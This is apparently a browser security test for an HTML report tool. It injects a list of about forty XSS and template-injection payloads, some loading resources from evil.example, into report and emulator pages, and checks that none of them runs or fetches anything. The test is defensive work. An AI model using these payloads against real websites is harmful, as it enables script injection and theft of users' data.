// Attacks in every text that a page shows: nothing runs, nothing is asked for, no element of theirs is there, and the
// text can be read.
//   node tests/browser/hostile.mjs target/debug/postino
import assert from "node:assert/strict";
import { spawn, spawnSync } from "node:child_process";
import { once } from "node:events";
import { createServer } from "node:http";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { pathToFileURL } from "node:url";
import { launch, openPage, run } from "./browser.mjs";

const postino = path.resolve(process.argv[2] ?? "target/debug/postino");
const folder = mkdtempSync(path.join(tmpdir(), "postino-hostile-"));

const PAYLOADS = [
  `<script>pwned()</script>`,
  `</script><script>pwned()</script>`,
  `</ScRiPt ><script src=//evil.example/x.js></script>`,
  `<!--<script>`,
  `<!-- --!><img src=x onerror=pwned()>`,
  `]]><img src=x onerror=pwned()>`,
  `<img src=x onerror=pwned()>`,
  `<img/src="http://evil.example/p.png"/onload=pwned()>`,
  `"><img src=x onerror=pwned()>`,
  `'><img src=x onerror=pwned()>`,
  `" onmouseover="pwned()" autofocus onfocus="pwned()" x="`,
  `' onfocus='pwned()' autofocus tabindex=0 x='`,
  "` onload=pwned() x=`",
  `<svg onload=pwned()><animate onbegin=pwned() attributeName=x dur=1s>`,
  `<svg><script>pwned()</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=pwned()>`,
  `<iframe src="javascript:pwned()"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned()</script>"></iframe>`,
  `<object data="data:text/html,<script>pwned()</script>"></object>`,
  `<embed src="http://evil.example/x.swf">`,
  `<link rel=stylesheet href=http://evil.example/x.css>`,
  `<style>@import 'http://evil.example/x.css'; body { display: none }</style>`,
  `</style><style>* { background: url(http://evil.example/b) }</style>`,
  `<meta http-equiv=refresh content="0;url=http://evil.example/">`,
  `<base href="http://evil.example/">`,
  `<form action="http://evil.example/"><input autofocus onfocus=pwned()><button>x</button></form>`,
  `<details open ontoggle=pwned()>x</details>`,
  `<video><source onerror=pwned()></video><audio src=http://evil.example/a.mp3 autoplay></audio>`,
  `<body onload=pwned()>`,
  `<template><script>pwned()</script></template><noscript><p title="</noscript><img src=x onerror=pwned()>">`,
  `<textarea></textarea><title></title><img src=x onerror=pwned()>`,
  `[a](javascript:pwned()) [b](<javascript:pwned()>) <javascript:pwned()> [c]: javascript:pwned()`,
  `![a](http://evil.example/p.png) ![b](data:image/svg+xml,<svg/onload=pwned()>)`,
  `[a](data:text/html,<script>pwned()</script>) [b](vbscript:pwned()) [c](JaVaScRiPt&colon;pwned())`,
  `[a](https://x.example/"onmouseover="pwned()) **<img src=x onerror=pwned()>** \`<script>pwned()</script>\``,
  `{{pwned}} {{{script}}} {{#each this}}{{/each}} \${pwned()} {{constructor.constructor 'pwned()'}}`,
  `\u2028pwned()\u2029//\u0000\u0001executions\u0001`,
  `\\u003cimg src=x onerror=pwned()\\u003e \\"; pwned(); // \\x3cscript\\x3e`,
  `&lt;img src=x onerror=pwned()&gt; &#60;script&#62;pwned()&#60;/script&#62; javascript&colon;pwned()`,
  `__proto__`,
  `constructor`,
  `\u202e<img src=x onerror=pwned()>\u2066 \u0000<scr\u0000ipt>pwned()</scr\u0000ipt>`,
];

/** Members of the stream whose values are words of the format. */
const WORDS = new Set(["format", "at", "event", "kind", "listen", "place", "origin", "level", "status", "mode", "http_version", "$console"]);

const poisoned = (value, payload) => {
  if (typeof value === "string") { return payload; }
  if (Array.isArray(value)) { return value.map((item) => poisoned(item, payload)); }
  if (value === null || typeof value !== "object") { return value; }
  const entries = Object.entries(value).map(([key, member]) => {
    if (WORDS.has(key)) { return [key, member]; }
    return [key, key === "description" || key === "next_request" ? payload : poisoned(member, payload)];
  });
  if (Array.isArray(value.item)) { entries.push(["description", payload]); }
  return Object.fromEntries(entries);
};

const stream = readFileSync(path.join(import.meta.dirname, "../replay/shop.ndjson"), "utf8").trim().split("\n");

/** The address of a report in which every text is this one. */
const report = (name, payload) => {
  const lines = stream.map((line) => JSON.stringify(payload === undefined ? JSON.parse(line) : poisoned(JSON.parse(line), payload)));
  writeFileSync(path.join(folder, "s.ndjson"), lines.join("\n"));
  const file = path.join(folder, `${name}.html`);
  const options = { "show-environment-data": null, "show-global-data": null, "show-folder-description": null, "show-markdown-links": null, export: file };
  // The program takes no zero byte.
  if (payload !== undefined) { Object.assign(options, { "browser-title": payload.replaceAll("\0", ""), timezone: payload.replaceAll("\0", "") }); }
  const given = Object.entries(options).flatMap(([key, value]) => (value === null ? [`--reporter-html-${key}`] : [`--reporter-html-${key}=${value}`]));
  const done = spawnSync(postino, ["report", "s.ndjson", "--no-mask", "-r", "html", ...given], { cwd: folder, encoding: "utf8" });
  assert.equal(done.stderr, "", done.stderr);
  return pathToFileURL(file).href;
};

/** What stands in the page that no report of its own has. */
const foreign = (page) => page.evaluate(() => {
  const own = new Set("html head meta title link style body a header div h1 h2 h3 h4 p span time b button nav main section ul li ol table caption thead tr th td tbody form label input output details summary pre code svg circle text polyline figure figcaption i script noscript em strong blockquote hr br del".split(" "));
  const found = [];
  for (const element of document.querySelectorAll("*")) {
    const name = element.localName;
    const allowed = own.has(name) && (name !== "script" || element.closest("body") === element.parentElement);
    if (!allowed) { found.push(element.outerHTML.slice(0, 100)); }
    for (const { name: attribute, value } of element.attributes) {
      const link = ["href", "src", "action", "formaction", "xlink:href", "data", "srcdoc"].includes(attribute);
      const harmless = /^(#|https?:|mailto:)/.test(value) || (name === "link" && element.rel === "icon");
      if (attribute.startsWith("on") || (link && !harmless)) { found.push(`${name} ${attribute}=${value.slice(0, 60)}`); }
    }
  }
  for (const name of ["script", "style", "link", "form", "input", "title", "base", "meta"]) { found.push(`${name}: ${document.querySelectorAll(name).length}`); }
  found.push(`pwned: ${globalThis.pwns}`);
  return found;
});

const browser = await launch();
const dialogs = [];
const open = async (url, allowed) => {
  const { page, wrong } = await openPage(browser, { viewport: { width: 1300, height: 900 } }, allowed);
  page.on("dialog", (dialog) => { dialogs.push(dialog.message()); dialog.dismiss(); });
  await page.addInitScript(() => { globalThis.pwns = 0; globalThis.pwned = () => { globalThis.pwns += 1; }; });
  await page.goto(url);
  return { page, wrong };
};

/** Looks at every part of a report. */
const explored = async (url) => {
  const { page, wrong } = await open(url, (asked) => asked === url || asked.startsWith("data:image/svg+xml,%3Csvg"));
  for (const tab of await page.locator("[role=tab]").all()) {
    await tab.click();
    if (await page.isVisible("#expand")) { await page.click("#expand"); }
  }
  await page.evaluate(() => dispatchEvent(new Event("beforeprint")));
  for (const element of await page.locator("[onfocus], [tabindex='0']").all()) { await element.focus().catch(() => {}); }
  await page.waitForTimeout(50);
  return { page, wrong };
};

/** The text as a page shows it: what a reader cannot see stands there by its number. */
const shown = (text) => text.replace(/[\u0000-\u001f\u00ad\u200b\u2028-\u202e\u2066-\u2069]/g,
  (c) => (c < "\u0100" ? `\\x${c.charCodeAt(0).toString(16).padStart(2, "0")}` : `\\u${c.charCodeAt(0).toString(16)}`));
const readable = (text) => text.replace(/\s+/g, " ").trim();
const clean = await explored(report("clean"));
const own = await foreign(clean.page);
assert.deepEqual(clean.wrong, []);
await clean.page.close();

const checks = {};
PAYLOADS.forEach((payload, nth) => {
  checks[`report ${nth + 1}: ${JSON.stringify(payload).slice(0, 60)}`] = async () => {
    const { page, wrong } = await explored(report(`r${nth}`, payload));
    assert.deepEqual(wrong, []);
    assert.deepEqual(await foreign(page), own);
    const text = readable(await page.evaluate(() => document.body.textContent));
    const wanted = readable(shown(payload));
    const count = text.split(wanted).length - 1;
    assert.ok(count >= 20, `seen ${count} times`);
    assert.equal(readable(await page.textContent("h1")), wanted);
    await page.close();
  };
});

checks["a policy keeps what would get through from running and from asking"] = async () => {
  const { page } = await open(pathToFileURL(path.join(folder, "clean.html")).href, () => true);
  const asked = [];
  const server = createServer((request, response) => { asked.push(request.url); response.end(); }).listen(0, "127.0.0.1");
  await once(server, "listening");
  await page.evaluate((evil) => {
    document.body.insertAdjacentHTML("beforeend", `<img src=x onerror=pwned()><img src='${evil}/p.png'><iframe src='${evil}/'></iframe><style>@import '${evil}/x.css';</style>`);
    const script = document.createElement("script");
    script.textContent = "pwned()";
    document.body.append(script);
  }, `http://127.0.0.1:${server.address().port}`);
  await page.waitForTimeout(200);
  assert.equal(await page.evaluate(() => globalThis.pwns), 0);
  assert.deepEqual(asked, []);
  server.close();
  server.closeAllConnections();
  await page.close();
};

checks["the emulator's page"] = async () => {
  const texts = PAYLOADS.map((payload) => payload.replace(/[\u0000-\u001f]/g, ""));
  const id = (nth) => `789abcde-f012-4345-8678-9abcdef1${String(nth).padStart(4, "0")}`;
  const scenario = {
    rateLimit: 0,
    environments: [{ id: "e0a1b2c3-d4e5-4f60-8718-293a4b5c6d7e", name: texts[0], classification: "PROD" }],
    runtimes: texts.map((name, nth) => ({ id: `3456789a-bcde-4f01-8345-6789abcd${String(nth).padStart(4, "0")}`, name, environment: texts[0] })),
    processes: texts.map((name, nth) => ({ id: id(nth), name, deployedTo: [texts[0]], duration: "1ms", outcomes: ["ERROR"], message: name, simultaneous: true })),
  };
  writeFileSync(path.join(folder, "s.yaml"), JSON.stringify(scenario));
  const child = spawn(postino, ["boomi", "emulate", "--port", "0", "--scenario", "s.yaml"], { cwd: folder, stdio: ["ignore", "pipe", "inherit"] });
  let said = "";
  for await (const chunk of child.stdout) { said += chunk; if (/baseUrl\s+\S+\s/.test(said)) { break; } }
  const url = /baseUrl\s+(\S+)/.exec(said)[1];
  const authorization = `Basic ${btoa("BOOMI_TOKEN.someone@example.com:7b1f4c0a-emulator-only-3d5e9a2c6f18")}`;
  for (const [nth, text] of texts.entries()) {
    const headers = { authorization, accept: "application/json", "content-type": "application/json" };
    const properties = { DynamicProcessProperty: [{ name: text, value: text }] };
    const body = JSON.stringify({ processId: id(nth), atomId: scenario.runtimes[nth].id, DynamicProcessProperties: properties });
    await fetch(`${url}/api/rest/v1/local-A1B2C3/ExecutionRequest`, { method: "POST", headers, body });
    await fetch(`${url}/api/rest/v1/local-A1B2C3/${encodeURIComponent(text)}?${encodeURIComponent(text)}=${text.replace(/[^!-~]/g, "")}`,
      { method: "POST", headers: { ...headers, "content-type": "text/html", authorization: `Basic ${Buffer.from(text).toString("base64")}` }, body: text });
  }
  const { page, wrong } = await open(url, (asked) => asked.startsWith(url));
  await page.locator("#calls details").nth(40).waitFor();
  for (const call of await page.locator("#calls details").all()) { await call.evaluate((it) => { it.open = true; it.querySelector("summary").focus(); }); }
  await page.waitForTimeout(1500);
  assert.deepEqual(wrong.filter((line) => !/status of 40\d/.test(line)), []);
  const found = await page.evaluate(() => ["img", "iframe", "object", "embed", "link", "base", "form", "svg", "math", "video", "template"].filter((name) => document.querySelector(name)));
  assert.deepEqual([found, await page.evaluate(() => globalThis.pwns), await page.locator("script").count(), await page.locator("style").count()], [[], 0, 1, 1]);
  const all = readable(await page.evaluate(() => document.body.textContent));
  for (const text of texts) { assert.ok(all.includes(readable(shown(text))), text); }
  await page.close();
  child.kill();
  await once(child, "exit");
};

await run(checks);
assert.deepEqual(dialogs, []);
await browser.close();
rmSync(folder, { recursive: true, force: true });
